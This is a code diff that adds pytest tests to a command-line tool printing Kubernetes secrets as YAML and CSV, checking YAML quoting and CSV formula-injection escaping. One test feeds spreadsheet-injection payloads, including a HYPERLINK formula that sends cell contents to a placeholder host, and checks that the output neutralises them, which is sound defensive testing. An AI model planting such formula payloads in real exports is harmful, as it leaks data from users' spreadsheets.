@@ -75,6 +75,28 @@ def test_json_yaml_and_csv_say_the_same(command: Command) -> None:
     assert (token["useCase"], token["keys"], token["creator"]) == ("HuggingFace", ["token"], "amara.okafor@example.com")
 
 
+@pytest.mark.parametrize("text", ["1e3", "1234e56", "0o17", "08", ".5e1", "-1E5", "y", "N", "yes", "1:30", "~", "1.0"])
+def test_no_reader_of_yaml_takes_a_text_for_something_else(command: Command, kubectl: Kubectl, text: str) -> None:
+    kubectl("annotate", "secret", "hf-token-llama", f"a/b={text}")
+    document = command("get", "hf-token-llama", "-o", "yaml").out
+    assert f"    a/b: '{text}'\n" in document
+    assert yaml.safe_load(document)["items"][0]["annotations"]["a/b"] == text
+
+
+def test_what_needs_no_quotes_in_yaml_has_none(command: Command, kubectl: Kubectl) -> None:
+    kubectl("annotate", "secret", "hf-token-llama", "a/b=1.2.3", "a/c=8a")
+    document = command("get", "hf-token-llama", "-o", "yaml").out
+    assert "    a/b: 1.2.3\n    a/c: 8a\n" in document
+
+
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://x?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "＝1+1"])  # noqa: RUF001
+def test_a_spreadsheet_computes_nothing(command: Command, kubectl: Kubectl, text: str) -> None:
+    kubectl("annotate", "secret", "hf-token-llama", f"aiwb.apps.eai.amd.com/display-name={text}", "--overwrite")
+    (row,) = csv.DictReader(command("get", "hf-token-llama", "-o", "csv").out.splitlines())
+    assert row["displayName"] == f"'{text}"
+    assert row["name"] == "hf-token-llama"
+
+
 def test_nobody_can_apply_what_is_printed(command: Command, kubectl: Kubectl, tmp_path: Path) -> None:
     """It lacks the values: applied as a Secret, it would take them away."""
     (tmp_path / "printed.json").write_text(command("get", "hf-token-llama", "-o", "json").out)
